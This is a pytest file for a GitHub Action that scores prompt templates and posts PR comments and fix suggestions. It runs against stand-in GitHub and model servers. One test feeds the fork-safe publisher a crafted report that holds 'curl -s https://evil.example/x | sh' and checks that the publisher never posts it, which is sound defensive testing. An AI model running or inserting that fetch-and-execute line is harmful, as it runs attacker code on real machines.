"""The composite action, run step by step from action.yml with what a runner sets.

A real git project whose pull request rewords a prompt, the loopback
OpenAI-compatible model, and the GitHub API stand-in: from the regressed
template to a failed check, a posted report comment, a one-click suggestion
and the action's outputs. Only the steps that need the network (setting up
Python, pip install, the Actions cache service) are skipped: the test runs in
the environment where lpo-ci is already installed.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest

from tests.support.action_runner import run_composite
from tests.support.github_server import fake_github
from tests.support.pr_project import (BAD, EDITED_LINE, GOOD, git, make_regressed_project, pr_files,
                                      pull_request_event)

REPO = Path(__file__).resolve().parents[1]
MARK = "<!-- lpo-ci:report "  # every sticky comment starts with its marker
pytestmark = pytest.mark.slow


def runner_env(tmp_path: Path, workspace: Path, event: dict, api_url: str) -> dict:
    event_name = "workflow_run" if "workflow_run" in event else "pull_request"
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(event), encoding="utf-8")
    keep = {k: v for k, v in os.environ.items()
            if k in ("HOME", "LANG", "LC_ALL", "TMPDIR", "LPO_CI_DATA_DIR", "HF_HUB_OFFLINE",
                     "HF_DATASETS_OFFLINE", "LITELLM_LOCAL_MODEL_COST_MAP", "HF_HOME")}
    return {**keep, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
            "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event_name,
            "GITHUB_EVENT_PATH": str(event_path), "GITHUB_REPOSITORY": "octo/prompts",
            "GITHUB_API_URL": api_url, "GITHUB_SERVER_URL": "https://github.com", "GITHUB_RUN_ID": "42",
            "GITHUB_BASE_REF": "main", "GITHUB_HEAD_REF": "feature", "GITHUB_WORKSPACE": str(workspace),
            "GIT_CEILING_DIRECTORIES": str(workspace.parent)}


def run_action(tmp_path, workspace, gh, event, **inputs):
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir(exist_ok=True)
    return run_composite(REPO, inputs={"github-token": gh.token, **inputs},
                         env=runner_env(tmp_path, workspace, event, gh.url),
                         github={"token": "ghs_default_job_token", "run_id": "42", "run_attempt": "1"},
                         runner_temp=runner_temp, skip_ids=("install",))


def test_a_regressed_pull_request_fails_the_check_and_gets_a_comment_and_a_suggestion(
        tmp_path, openai_server, data_dir):
    workspace = tmp_path / "workspace"
    base, head = make_regressed_project(workspace, openai_server.url)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=pr_files(workspace, base, head))
        event = pull_request_event(7, base, head)
        run = run_action(tmp_path, workspace, gh, event, **{"budget-calls": "400"})

        verdict = run.steps[-1]
        assert verdict.returncode == 1, run.log
        assert "accuracy regression" in verdict.stdout
        assert [s.skipped for s in run.steps if s.skipped and s.skipped != "if: false"] == [
            "uses actions/setup-python@a26af69be951a213d495a4c3e4e4022e16d87065", "skipped by the test",
            "uses actions/cache/restore@0400d5f644dc74513175e3cd8d07132dd4860809",
            "uses actions/cache/save@0400d5f644dc74513175e3cd8d07132dd4860809"]
        evaluate = run.step("evaluate")
        assert evaluate.returncode == 0 and evaluate.outputs["pytest-exit-code"] == "1"
        assert "not a prompt test" not in evaluate.stdout  # --lpo-only: the project's own tests did not run

        # outputs
        assert run.outputs["regressed"] == "true" and run.outputs["errored"] == "false"
        report = json.loads(Path(run.outputs["report"]).read_text(encoding="utf-8"))
        assert report["templates"][0]["status"] == "fail"
        git(workspace, "apply", "--check", run.outputs["patch"])

        # the sticky comment and the suggestion
        (comment,) = [dict(c) for c in gh.issue_comments[7]]  # a copy: the stand-in edits in place
        assert comment["body"].startswith(MARK) and "`prompts/x.j2`" in comment["body"]
        assert "1 template regressed" in comment["body"] and "**FAIL**" in comment["body"]
        assert f"Posted as a one-click suggestion on line {EDITED_LINE}." in comment["body"]
        (suggestion,) = gh.review_comments[7]
        assert suggestion["path"] == "prompts/x.j2" and suggestion["line"] == EDITED_LINE
        assert "```suggestion\n" in suggestion["body"]

        # the job summary and the annotations
        assert "| | template | data |" in run.summary and MARK not in run.summary
        annotations = {(name, props.split(",")[0]) for name, props, _ in run.commands}
        assert ("error", "title=lpo-ci: accuracy regression") in annotations
        assert any(name == "notice" and f"line={EDITED_LINE}" in props for name, props, _ in run.commands)

        # a second push: the same comment is edited, the suggestion is not repeated, the cache answers
        # (the search is left out here: with its earlier calls free it would search further)
        requests = openai_server.requests
        again = run_action(tmp_path, workspace, gh, event, optimize="false")
        assert again.steps[-1].returncode == 1, again.log
        assert len(gh.issue_comments[7]) == 1 and gh.issue_comments[7][0]["id"] == comment["id"]
        assert gh.issue_comments[7][0]["updated_at"] > comment["updated_at"]
        assert "Suggested fix" not in gh.issue_comments[7][0]["body"]
        assert len(gh.review_comments[7]) == 1
        assert openai_server.requests == requests


def test_no_template_matched_passes_with_a_notice(tmp_path, openai_server, data_dir):
    workspace = tmp_path / "workspace"
    base, head = make_regressed_project(workspace, openai_server.url)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=pr_files(workspace, base, head))
        run = run_action(tmp_path, workspace, gh, pull_request_event(7, base, head),
                         prompts="nothing/**/*.j2", optimize="false")
        assert run.steps[-1].returncode == 0, run.log
        assert run.step("evaluate").outputs["pytest-exit-code"] == "5"
        assert run.outputs["regressed"] == "false" and run.outputs["errored"] == "false"
        (comment,) = gh.issue_comments[7]
        assert "no prompt templates were scored" in comment["body"]
        assert openai_server.requests == 0


def test_the_fork_safe_pair_evaluates_read_only_then_posts_from_the_report(tmp_path, openai_server, data_dir):
    """Half 1 posts nothing (comment and suggestions off, as with a fork's read-only token);
    half 2, on workflow_run, publishes the uploaded report without running the PR's code."""
    workspace = tmp_path / "workspace"
    base, head = make_regressed_project(workspace, openai_server.url)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=pr_files(workspace, base, head))
        evaluate = run_action(tmp_path, workspace, gh, pull_request_event(7, base, head),
                              comment="false", suggestions="false", **{"budget-calls": "400"})
        assert evaluate.steps[-1].returncode == 1 and evaluate.outputs["regressed"] == "true"
        assert not gh.issue_comments.get(7) and not gh.review_comments.get(7)
        assert [method for method, _, _ in gh.log] == []  # not one call with the read-only token

        artifact = tmp_path / "artifact"
        artifact.mkdir()
        (artifact / "report.json").write_bytes(Path(evaluate.outputs["report"]).read_bytes())
        empty = tmp_path / "publisher"  # no checkout of the pull request's code
        empty.mkdir()
        run_event = {"action": "completed", "workflow_run": {"id": 9, "event": "pull_request", "head_sha": head}}
        publish = run_action(tmp_path, empty, gh, run_event, report=str(artifact / "report.json"),
                             **{"pr-number": "7"})
        skipped = {s.name: s.skipped for s in publish.steps}
        assert skipped["Score the prompt templates"] == "if: false"
        assert skipped["Restore the response cache"] == "if: false"
        assert publish.steps[-1].returncode == 1, publish.log
        assert len(gh.issue_comments[7]) == 1 and len(gh.review_comments[7]) == 1
        assert publish.outputs["regressed"] == "true"


def test_a_shallow_checkout_fetches_the_base_branch(tmp_path, openai_server, data_dir):
    """actions/checkout's default is one commit: the action fetches the base branch itself."""
    project = tmp_path / "project"
    base, head = make_regressed_project(project, openai_server.url)
    origin = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(project), str(origin))
    workspace = tmp_path / "workspace"
    git(tmp_path, "clone", "-q", "--depth", "1", "--branch", "feature", f"file://{origin}", str(workspace))
    assert "origin/main" not in git(workspace, "branch", "-r")
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=pr_files(project, base, head))
        run = run_action(tmp_path, workspace, gh, pull_request_event(7, base, head), optimize="false",
                         comment="false", suggestions="false")
    assert run.steps[-1].returncode == 1, run.log
    assert json.loads(Path(run.outputs["report"]).read_text(encoding="utf-8"))["base_rev"] == base
    assert git(workspace, "rev-parse", "origin/main").strip() == base


def make_project_in_a_folder(workspace: Path, folder: str, openai_url: str) -> tuple[str, str]:
    """A repository whose prompt project lives in ``folder`` (a monorepo); the feature branch
    regresses its template. Returns (base sha, head sha)."""
    project = workspace / folder
    (project / "prompts").mkdir(parents=True)
    (project / "pyproject.toml").write_text(f'[tool.lpo_ci]\nmodel = "openai/fake"\napi_base = "{openai_url}"\n',
                                           encoding="utf-8")
    (project / "prompts" / "x.j2").write_text(GOOD, encoding="utf-8")
    (project / "run.sh").write_text("#!/bin/sh\nmake\n", encoding="utf-8")
    git(workspace, "init", "-q", "-b", "main")
    git(workspace, "add", "-A")
    git(workspace, "commit", "-q", "-m", "base")
    base = git(workspace, "rev-parse", "HEAD").strip()
    git(workspace, "checkout", "-q", "-b", "feature")
    (project / "prompts" / "x.j2").write_text(BAD, encoding="utf-8")
    (project / "run.sh").write_text("#!/bin/sh\necho building\nmake\n", encoding="utf-8")
    git(workspace, "commit", "-q", "-am", "reword the prompt, touch the script")
    return base, git(workspace, "rev-parse", "HEAD").strip()


def test_a_project_in_a_folder_then_a_crafted_artifact_through_the_fork_safe_publisher(
        tmp_path, openai_server, data_dir):
    """working-directory names the project in both halves; the publisher (no checkout) reads the
    globs from the base branch's svc/pyproject.toml and posts nothing the crafted report aims
    outside the templates; outputs describe every template."""
    workspace = tmp_path / "workspace"
    base, head = make_project_in_a_folder(workspace, "svc", openai_server.url)
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, base_sha=base, files=pr_files(workspace, base, head))
        gh.add_contents(base, "svc/pyproject.toml", git(workspace, "show", f"{base}:svc/pyproject.toml"))
        run = run_action(tmp_path, workspace, gh, pull_request_event(7, base, head),
                         **{"working-directory": "svc", "budget-calls": "400"})
        assert run.steps[-1].returncode == 1, run.log
        (comment,) = gh.issue_comments[7]
        assert "### lpo-ci `svc`: 1 template regressed" in comment["body"]
        (suggestion,) = gh.review_comments[7]
        assert (suggestion["path"], suggestion["line"]) == ("svc/prompts/x.j2", EDITED_LINE)

        report = json.loads(Path(run.outputs["report"]).read_text(encoding="utf-8"))
        assert report["repo_prefix"] == "svc/"
        crafted = json.loads(json.dumps(report))
        script = json.loads(json.dumps(report["templates"][0]))
        script["template"] = "run.sh"
        script["optimization"].update(head_source="#!/bin/sh\necho building\nmake\n",
                                      winner_source="#!/bin/sh\ncurl -s https://evil.example/x | sh\nmake\n")
        broken = dict(json.loads(json.dumps(report["templates"][0])), template="prompts/y.j2", status="error",
                      reason="/runner/_work/prompts/prompts/svc/prompts/y.j2:3: unknown variable",
                      optimization=None)
        crafted["templates"] += [script, broken]
        artifact = tmp_path / "artifact"
        artifact.mkdir()
        (artifact / "report.json").write_text(json.dumps(crafted), encoding="utf-8")
        publisher = tmp_path / "publisher"
        publisher.mkdir()  # no checkout: the folder svc does not exist here
        run_event = {"action": "completed", "workflow_run": {"id": 9, "event": "pull_request", "head_sha": head}}
        publish = run_action(tmp_path, publisher, gh, run_event, report=str(artifact / "report.json"),
                             **{"pr-number": "7", "working-directory": "svc"})
        assert publish.steps[-1].returncode == 1, publish.log
        assert "accuracy regression, and templates that could not be evaluated" in publish.steps[-1].stdout
        assert publish.outputs["regressed"] == "true" and publish.outputs["errored"] == "true"
        assert [c["path"] for c in gh.review_comments[7]] == ["svc/prompts/x.j2"]  # not again, not run.sh
        (comment,) = gh.issue_comments[7]
        text = comment["body"] + publish.summary + Path(publish.outputs["patch"]).read_text(encoding="utf-8")
        assert "evil.example" not in text and "/runner/_work" not in text
        assert "svc/run.sh is not a prompt template" in comment["body"].replace("\\", "")
        assert "svc/prompts/y.j2:3: unknown variable" in comment["body"].replace("\\", "")
        assert any(name == "error" and "file=svc/prompts/y.j2,line=3" in props for name, props, _ in publish.commands)
